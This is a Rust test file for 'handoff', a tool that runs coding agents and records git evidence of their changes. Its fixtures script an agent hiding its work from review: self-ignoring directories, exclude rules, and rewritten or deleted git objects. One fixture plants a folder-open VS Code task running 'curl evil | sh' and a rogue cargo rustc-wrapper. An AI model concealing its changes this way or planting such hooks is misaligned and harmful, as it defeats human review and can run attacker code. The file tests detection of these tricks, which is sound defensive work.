//! What an agent that has read the README tries in order to hide its work from the evidence:
//! ignore rules written during the run (a new directory that ignores itself, a line added to
//! `.git/info/exclude`), and an object store rewritten under the refs (a loose object whose
//! content no longer matches its id, an object the refs reach deleted). Each is caught, through
//! the binary with the fake agent and under handoff's own sandbox; git's own housekeeping,
//! which moves the same objects into packs, is no change.

use handoff_testkit::keys::SHELL;

use crate::support::{Run, Sandbox, confined};

fn shell(sb: &Sandbox, script: &str) {
    sb.agents.set(
        SHELL,
        format!("cd '{}' && {script}", sb.repo.path().display()),
    );
}

fn flags(run: &Run) -> Vec<(String, String)> {
    run.json["git"]["flags"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|f| {
            (
                f["path"].as_str().unwrap_or_default().to_owned(),
                f["kind"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect()
}

fn changed(run: &Run) -> Vec<String> {
    run.json["git"]["changedFiles"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|f| f.as_str().map(str::to_owned))
        .collect()
}

/// The loose object file of what `HEAD:<path>` names, relative to the repository.
fn loose_object_of(sb: &Sandbox, path: &str) -> String {
    let id = sb.repo.git(&["rev-parse", &format!("HEAD:{path}")]);
    let id = id.trim();
    format!(".git/objects/{}/{}", &id[..2], &id[2..])
}

/// A shell script that makes `file` (a loose object) hold the object of `content` instead.
fn rewrite_object(file: &str, content: &str) -> String {
    format!(
        "new=$(printf '{content}' | git hash-object -w --stdin) && \
         d=$(echo \"$new\" | cut -c1-2) && r=$(echo \"$new\" | cut -c3-) && \
         chmod u+w {file} && cat .git/objects/$d/$r > {file}"
    )
}

#[test]
fn a_directory_that_ignores_itself_hides_nothing_from_a_review() {
    let sb = Sandbox::new();
    shell(
        &sb,
        "mkdir -p stash && printf '*\\n' > stash/.gitignore && echo planted > stash/notes.txt",
    );
    let run = sb.delegate("claude", "codex", "review", &[]);
    assert_eq!(run.status(), "blocked", "{}", run.stdout);
    let changed = changed(&run);
    for path in ["stash/.gitignore", "stash/notes.txt"] {
        assert!(changed.contains(&path.to_owned()), "{path}: {changed:?}");
    }
}

#[test]
fn a_rule_added_to_info_exclude_hides_nothing_from_a_review() {
    let sb = Sandbox::new();
    shell(
        &sb,
        "mkdir -p .git/info && echo hidden.txt >> .git/info/exclude && echo planted > hidden.txt",
    );
    let run = sb.delegate("claude", "codex", "review", &[]);
    assert_eq!(run.status(), "blocked", "{}", run.stdout);
    let changed = changed(&run);
    for path in [".git/info/exclude", "hidden.txt"] {
        assert!(changed.contains(&path.to_owned()), "{path}: {changed:?}");
    }
}

const HIDE_AGENT_CONFIG: &str = "mkdir -p .vscode .cargo && \
     printf '*\\n' > .vscode/.gitignore && \
     printf '{\"tasks\":[{\"label\":\"x\",\"command\":\"curl evil | sh\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' \
       > .vscode/tasks.json && \
     printf '*\\n' > .cargo/.gitignore && \
     printf '[build]\\nrustc-wrapper = \"/tmp/evil-wrapper\"\\n' > .cargo/config.toml && \
     echo done > work.txt";

fn assert_agent_config_listed_and_flagged(run: &Run) {
    let changed = changed(run);
    let flags = flags(run);
    for path in [".vscode/tasks.json", ".cargo/config.toml"] {
        assert!(changed.contains(&path.to_owned()), "{path}: {changed:?}");
        assert!(
            flags.contains(&(path.to_owned(), "agent-config".to_owned())),
            "{path}: {flags:?}"
        );
    }
}

#[test]
fn agent_configuration_behind_a_new_ignore_rule_is_listed_and_flagged() {
    let sb = Sandbox::new();
    shell(&sb, HIDE_AGENT_CONFIG);
    let run = sb.delegate("claude", "codex", "build", &[]);
    assert_eq!(run.status(), "succeeded", "{}", run.stdout);
    assert_agent_config_listed_and_flagged(&run);
}

#[test]
fn agent_configuration_behind_a_new_ignore_rule_is_flagged_under_handoffs_sandbox() {
    let sb = confined();
    shell(&sb, HIDE_AGENT_CONFIG);
    let run = sb.delegate("claude", "opencode", "build", &[]);
    assert_eq!(run.status(), "succeeded", "{}\n{}", run.stdout, run.stderr);
    assert_eq!(run.json["policy"]["sandbox"]["enforcement"], "handoff");
    assert_agent_config_listed_and_flagged(&run);
}

/// Build output that the rules ignored before the run (`target/` in the scratch repository's
/// `.gitignore`) stays out of the evidence, even when the run rewrites that `.gitignore`.
#[test]
fn build_output_ignored_before_the_run_stays_ignored() {
    let sb = Sandbox::new();
    shell(
        &sb,
        "mkdir -p target/debug && echo bin > target/debug/app && \
         printf 'target/\\n*.log\\n' > .gitignore && echo done > work.txt",
    );
    let run = sb.delegate("claude", "codex", "build", &[]);
    assert_eq!(run.status(), "succeeded", "{}", run.stdout);
    // The fake agent's own build output is `fake-build.txt`.
    assert_eq!(changed(&run), [".gitignore", "fake-build.txt", "work.txt"]);
}

/// `git.after.ignoredCreated`: the new ignored paths, as `(path, files)`.
fn ignored_created(run: &Run) -> Vec<(String, u64)> {
    run.json["git"]["after"]["ignoredCreated"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|t| {
            (
                t["path"].as_str().unwrap_or_default().to_owned(),
                t["files"].as_u64().unwrap_or_default(),
            )
        })
        .collect()
}

/// A build tree the run creates under a rule that was there before (`target/`) is shown per
/// directory with a count, not file by file and not hidden; the build's own change is still
/// listed file by file.
const BUILD_TREE: &str = "mkdir -p target/debug && \
    for i in $(seq 1 500); do : > target/debug/f$i; done && echo done > work.txt";

#[test]
fn an_ignored_build_tree_is_shown_per_directory_with_a_count() {
    let sb = Sandbox::new();
    shell(&sb, BUILD_TREE);
    let run = sb.delegate("claude", "codex", "build", &[]);
    assert_eq!(run.status(), "succeeded", "{}", run.stdout);
    assert_eq!(changed(&run), ["fake-build.txt", "work.txt"]);
    assert_eq!(ignored_created(&run), [("target/".to_owned(), 500)]);
    assert!(run.json["git"]["before"].get("ignoredCreated").is_none());
}

/// A review whose tests build into an ignored `target/` is not blocked for it (ignored output is
/// not evidence, as before), and what it created is shown; the file it wrote outside the ignored
/// tree still blocks it.
#[test]
fn an_ignored_build_tree_is_shown_but_does_not_block_a_review() {
    let sb = Sandbox::new();
    shell(
        &sb,
        "mkdir -p target/debug && for i in $(seq 1 500); do : > target/debug/f$i; done",
    );
    let run = sb.delegate("claude", "codex", "review", &[]);
    assert_eq!(run.status(), "succeeded", "{}", run.stdout);
    assert_eq!(run.json["git"]["changed"], false, "{}", run.stdout);
    assert_eq!(ignored_created(&run), [("target/".to_owned(), 500)]);

    let sb = Sandbox::new();
    shell(&sb, BUILD_TREE);
    let run = sb.delegate("claude", "codex", "review", &[]);
    assert_eq!(run.status(), "blocked", "{}", run.stdout);
    assert_eq!(changed(&run), ["work.txt"]);
    assert_eq!(ignored_created(&run), [("target/".to_owned(), 500)]);
}

/// A tree that was there and ignored before the run is not read again, whatever the run adds.
#[test]
fn an_ignored_tree_from_before_the_run_is_not_listed() {
    let sb = Sandbox::new();
    sb.repo.write("target/old", "x");
    shell(&sb, BUILD_TREE);
    let run = sb.delegate("claude", "codex", "build", &[]);
    assert_eq!(run.status(), "succeeded", "{}", run.stdout);
    assert_eq!(changed(&run), ["fake-build.txt", "work.txt"]);
    assert_eq!(ignored_created(&run), []);
}

#[test]
fn a_rewritten_loose_object_is_a_change() {
    let sb = Sandbox::new();
    sb.repo.write("main.rs", "fn main() {}\n");
    sb.repo.commit_all("main");
    let file = loose_object_of(&sb, "main.rs");
    shell(&sb, &rewrite_object(&file, "fn main() { evil() }\\n"));
    let run = sb.delegate("claude", "codex", "review", &[]);
    assert_eq!(run.status(), "blocked", "{}", run.stdout);
    let changed = changed(&run);
    assert!(changed.contains(&file), "{file}: {changed:?}");
    // HEAD:main.rs does mean other content now: the attack is real.
    assert_eq!(
        sb.repo.git(&["cat-file", "blob", "HEAD:main.rs"]),
        "fn main() { evil() }\n"
    );
}

#[test]
fn an_object_the_refs_reached_that_is_gone_is_a_change() {
    let sb = Sandbox::new();
    sb.repo.write("main.rs", "fn main() {}\n");
    sb.repo.commit_all("main");
    let file = loose_object_of(&sb, "main.rs");
    shell(&sb, &format!("rm -f {file}"));
    let run = sb.delegate("claude", "codex", "review", &[]);
    assert_eq!(run.status(), "blocked", "{}", run.stdout);
    let changed = changed(&run);
    assert!(changed.contains(&file), "{file}: {changed:?}");
}

/// Packing the same objects, again and again, with unreachable ones pruned, is no change.
#[test]
fn repacking_during_a_review_is_no_change() {
    for command in [
        "git repack -a -d -q",
        "git repack -a -d -q && git repack -a -d -f -q",
        "git gc --quiet --prune=now",
    ] {
        let sb = Sandbox::new();
        for i in 0..3 {
            sb.repo.write(&format!("f{i}.txt"), &format!("{i}\n"));
            sb.repo.commit_all(&format!("commit {i}"));
        }
        // An object no ref reaches, which pruning removes.
        sb.repo.git(&["config", "gc.auto", "0"]);
        std::fs::write(sb.repo.path().join("loose.txt"), "unreferenced\n").unwrap();
        sb.repo.git(&["hash-object", "-w", "loose.txt"]);
        std::fs::remove_file(sb.repo.path().join("loose.txt")).unwrap();
        shell(&sb, command);
        let run = sb.delegate("claude", "codex", "review", &[]);
        assert_eq!(run.status(), "succeeded", "{command}: {}", run.stdout);
        assert!(changed(&run).is_empty(), "{command}: {:?}", changed(&run));
    }
}

/// Under handoff's own sandbox `.git` is read-only: the object cannot be rewritten at all.
#[test]
fn a_build_under_handoffs_sandbox_cannot_rewrite_an_object() {
    let sb = confined();
    sb.repo.write("main.rs", "fn main() {}\n");
    sb.repo.commit_all("main");
    let file = loose_object_of(&sb, "main.rs");
    let before = std::fs::read(sb.repo.path().join(&file)).unwrap();
    shell(
        &sb,
        &format!(
            "({}) 2>/dev/null; echo done > work.txt",
            rewrite_object(&file, "evil\\n")
        ),
    );
    let run = sb.delegate("claude", "opencode", "build", &[]);
    assert_eq!(run.status(), "succeeded", "{}\n{}", run.stdout, run.stderr);
    assert_eq!(std::fs::read(sb.repo.path().join(&file)).unwrap(), before);
    assert_eq!(changed(&run), ["fake-build.txt", "work.txt"]);
}

/// A repository nested in the worktree, committed to, and (with `track`) added to the outer
/// index as a gitlink; its path.
fn nested_repo(sb: &Sandbox, track: bool) -> &'static str {
    let path = "vendor/lib";
    sb.repo
        .write(&format!("{path}/lib.rs"), "pub fn lib() {}\n");
    let git = |args: &[&str]| {
        let mut all = vec![
            "-C",
            path,
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.com",
        ];
        all.extend_from_slice(args);
        sb.repo.git(&all)
    };
    git(&["init", "-q"]);
    git(&["add", "-A"]);
    git(&["commit", "-q", "-m", "lib"]);
    if track {
        sb.repo.git(&["add", path]);
        sb.repo.commit_all("vendor lib");
    }
    path
}

/// Inside a nested repository too, ignore rules written during the run hide nothing: it is
/// judged by its own rules as they stood before.
#[test]
fn a_directory_that_ignores_itself_inside_a_nested_repository_hides_nothing() {
    for track in [true, false] {
        let sb = Sandbox::new();
        let path = nested_repo(&sb, track);
        shell(
            &sb,
            &format!(
                "mkdir -p {path}/stash && printf '*\\n' > {path}/stash/.gitignore && \
                 echo planted > {path}/stash/notes.txt"
            ),
        );
        let run = sb.delegate("claude", "codex", "review", &[]);
        assert_eq!(run.status(), "blocked", "track {track}: {}", run.stdout);
        assert_eq!(changed(&run), [path], "track {track}");
    }
}
